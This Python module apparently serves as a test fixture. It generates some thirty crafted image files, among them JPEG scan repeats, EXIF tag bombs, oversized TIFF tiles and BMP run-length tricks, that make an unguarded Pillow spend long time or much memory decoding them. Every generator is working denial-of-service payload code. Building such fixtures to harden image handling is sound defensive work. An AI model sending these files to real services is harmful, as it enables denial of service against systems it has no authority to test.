"""Small files that take long to decode, made here: what a hostile visitor sends."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable

from PIL import Image


def progressive(scans: int = 500, size: tuple[int, int] = (6000, 4000)) -> bytes:
    """A grey JPEG whose last refinement scan is repeated; each costs a pass over all pixels and some 40 bytes."""
    out = io.BytesIO()
    Image.new("L", size, 128).save(out, "JPEG", progressive=True, quality=30)
    data = out.getvalue()
    start, end = data.rfind(b"\xff\xda"), data.rfind(b"\xff\xd9")
    return data[:end] + data[start:end] * scans + data[end:]


def _png(*chunks: bytes) -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + _chunk(b"IDAT", zlib.compress(b"\0\0")) + _chunk(b"IEND", b"")
    )


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _directory(*entries: tuple[int, int, int, int], following: int = 0) -> bytes:
    """A TIFF's directory: (tag, type, count, value) each."""
    body = b"".join(struct.pack("<HHII", *entry) for entry in sorted(entries))
    return struct.pack("<H", len(entries)) + body + struct.pack("<I", following)


def _tiff(*entries: tuple[int, int, int, int], rest: int = 0, following: int = 0) -> bytes:
    """A little-endian TIFF of 8 x 8 grey pixels with further entries, and so many bytes behind it."""
    plain = [(256, 4, 1, 8), (257, 4, 1, 8), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (277, 3, 1, 1)]
    return b"II*\0\x08\0\0\0" + _directory(*plain, *entries, following=following) + bytes(rest)


def _tiles(side: int, image: int = 8) -> bytes:
    """Deflated tiles of a size that has nothing to do with the image's."""
    data = zlib.compress(bytes(64))
    entries = {256: image, 257: image, 258: 8, 259: 8, 262: 1, 277: 1, 322: side, 323: side, 324: 200, 325: len(data)}
    body = b"II*\0\x08\0\0\0" + _directory(*((tag, 4, 1, value) for tag, value in entries.items()))
    return body.ljust(200, b"\0") + data


def _signed_tiles() -> bytes:
    """The same, its sides as signed numbers."""
    sides = (322, 4, 1, 39_000), (323, 4, 1, 39_000)
    plain, signed = (b"".join(struct.pack("<HHII", tag, kind, *rest) for tag, _, *rest in sides) for kind in (4, 9))
    return _tiles(39_000).replace(plain, signed)


def _exif_bomb(tags: int = 60_000, each: int = 60_000) -> bytes:
    """Tags of an EXIF block that all hold the same bytes."""
    block = b"Exif\0\0II*\0\x08\0\0\0" + _directory(*((tag, 7, each, 8) for tag in range(1000, 1000 + tags)))
    return block + bytes(each)


def _below(each: int = 60_000) -> bytes:
    """Such tags in the directory that an EXIF block names; Pillow reads it as it turns an AVIF."""
    tags = _directory(*((tag, 7, each, 8) for tag in range(1000, 1900)))
    return b"Exif\0\0II*\0\x08\0\0\0" + _directory((0x8769, 4, 1, 26)) + tags + bytes(each)


def _avif_with(block: bytes) -> bytes:
    """Written with a long comment in the place of the block: Pillow writes no block that it does not understand."""
    comment = Image.Exif()
    comment[0x9286] = b"?" * len(block)
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "AVIF", exif=comment.tobytes())
    data, block = out.getvalue(), block.removeprefix(b"Exif\0\0")
    at = data.rindex(b"II*\0" if b"II*\0" in data else b"MM\0*", 0, data.index(b"?" * 99))
    return data[:at] + block + data[at + len(block) :]


def _segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def _jpeg_with(segments: bytes) -> bytes:
    """`segments` take the place of JFIF's header, without which Pillow looks into the EXIF block."""
    out = io.BytesIO()
    Image.new("L", (8, 8)).save(out, "JPEG")
    data = out.getvalue()
    return data[:2] + segments + data[2 + 18 :]


def _jpeg_with_exif() -> bytes:
    block = _exif_bomb(2_000, 600_000).removeprefix(b"Exif\0\0")
    parts = [block[start : start + 60_000] for start in range(0, len(block), 60_000)]
    return _jpeg_with(b"".join(_segment(0xE1, b"Exif\0\0" + part) for part in parts))


def _previews() -> bytes:
    """The tags by which a phone's JPEG tells of its previews, each of them decoded as the file is opened."""
    tags = b"II*\0\x08\0\0\0" + _directory(*((tag, 3, 30_000, 8) for tag in range(1000, 1400)))
    return _jpeg_with(_segment(0xE2, b"MPF\0" + tags + bytes(60_000)))


def _big_endian(head: bytes) -> bytes:
    """A TIFF of tags in one place, by a head that Pillow takes for another than it is."""
    tags = (struct.pack(">HHII", tag, 7, 800_000, 8) for tag in range(1000, 1900))
    return head + struct.pack(">IH", 8, 900) + b"".join(tags) + bytes(800_000)


def _cut_off() -> bytes:
    """A directory at the end of its file, which says that it is longer."""
    whole = _tiff(*((tag, 7, 900_000, 8) for tag in range(1000, 1900)))
    directory = struct.pack("<H", 950) + whole[10:-4]
    return b"II*\0" + struct.pack("<I", 900_008) + bytes(900_000) + directory


def _gif_with(blocks: bytes) -> bytes:
    out = io.BytesIO()
    Image.new("L", (8, 8)).save(out, "GIF")
    data = out.getvalue()
    start = 13 + 3 * 2 ** ((data[10] & 7) + 1)
    return data[:start] + blocks + data[start:]


def _webp_with_exif(block: bytes) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "WEBP", exif=block)
    return out.getvalue()


# Name -> a file of at most 30 MB that an unguarded Pillow takes long, or much memory, to open.
ATTACKS: dict[str, Callable[[], bytes]] = {
    "repeated scans": lambda: progressive(scans=2500),
    "empty JPEG segments": lambda: _jpeg_with(b"\xff\xfe\0\x02" * 2_000_000),
    "fill bytes in a JPEG": lambda: _jpeg_with(b"\xff" * 9_000_000),
    "long GIF comment": lambda: _gif_with(b"\x21\xfe" + (b"\xff" + b"x" * 255) * 36_000 + b"\0"),
    "empty GIF comments": lambda: _gif_with(b"\x21\xfe\0" * 3_000_000),
    "tiny GIF sub-blocks": lambda: _gif_with(b"\x21\xfe" + b"\x01x" * 4_000_000 + b"\0"),
    "junk between GIF blocks": lambda: _gif_with(b"\x01" * 9_000_000),
    "empty PNG chunks": lambda: _png(_chunk(b"tEXt", b"") * 2_000_000),
    "colour profiles of a PNG": lambda: _png(_chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(1_000_000))) * 9_000),
    "segments behind a JPEG's end": lambda: _jpeg_with(b"\xff\xd9" + b"\xff\xfe\0\x02" * 2_000_000),
    "segments in a reserved one": lambda: _jpeg_with((b"\xff\xf0\xff\xfe" + b"\xff\xfe\0\x02" * 16_000) * 99),
    "parts of an EXIF block": lambda: _jpeg_with(_segment(0xE1, b"Exif\0\0" + bytes(118)) * 80_000),
    "EXIF tags in one place, JPEG": _jpeg_with_exif,
    "EXIF tags in one place, AVIF": lambda: _avif_with(_exif_bomb()),
    "EXIF tags below, AVIF": lambda: _avif_with(_below()),
    "EXIF tags behind two heads": lambda: _webp_with_exif(b"Exif\0\0" + _exif_bomb()),
    "tags of previews": _previews,
    "EXIF tags in one place, PNG": lambda: _png(_chunk(b"eXIf", _exif_bomb()[6:])),
    "EXIF tags in one place, WebP": lambda: _webp_with_exif(_exif_bomb()),
    "a large tile in a small TIFF": lambda: _tiles(39_000),
    "tiles of a pixel": lambda: _tiles(1, 7_000),
    "TIFF tags in one place": lambda: _tiff(*((tag, 7, 8_000_000, 8) for tag in range(1000, 1900)), rest=8_000_000),
    "TIFF tags by a wrong head": lambda: b"II\0*" + ATTACKS["TIFF tags in one place"]()[4:],
    "TIFF tags by the other wrong head": lambda: _big_endian(b"MM*\0"),
    "TIFF tags that call themselves large": lambda: _big_endian(b"MM\0+"),
    "TIFF tags that are cut off": _cut_off,
    "fractions of a TIFF": lambda: _tiff((282, 5, 3_000_000, 8), rest=24_000_000),
    "a large tile by signed numbers": _signed_tiles,
    "many TIFF tags": lambda: _tiff(*((tag, 7, 4, 8) for tag in range(1000, 60_000))),
    "a second TIFF page of tags": lambda: _second_page(),
    "lines of a BMP that end at once": lambda: _bmp_in_runs(20_000, 2_500, b"\1\1\0\0" * 2_500),
    "the same, of 16 colours, from the top": lambda: _bmp_in_runs(2_500, -19_000, b"\1\1\0\0" * 19_000, kind=2),
}


def _bmp_in_runs(width: int, height: int, runs: bytes, kind: int = 1) -> bytes:
    """Pillow fills each line up, a pixel at a time: 11 kB take half a minute."""
    start = 14 + 40 + 1024
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 8 if kind == 1 else 4, kind, len(runs), 0, 0, 256, 0)
    return struct.pack("<2sIHHI", b"BM", start + len(runs), 0, 0, start) + info + bytes(1024) + runs


def _second_page() -> bytes:
    first = _tiff((273, 4, 1, 400), (278, 4, 1, 8), (279, 4, 1, 64), following=1000).ljust(1000, b"\0")
    return first + _directory(*((tag, 7, 8_000_000, 8) for tag in range(1000, 1900))) + bytes(8_000_000)
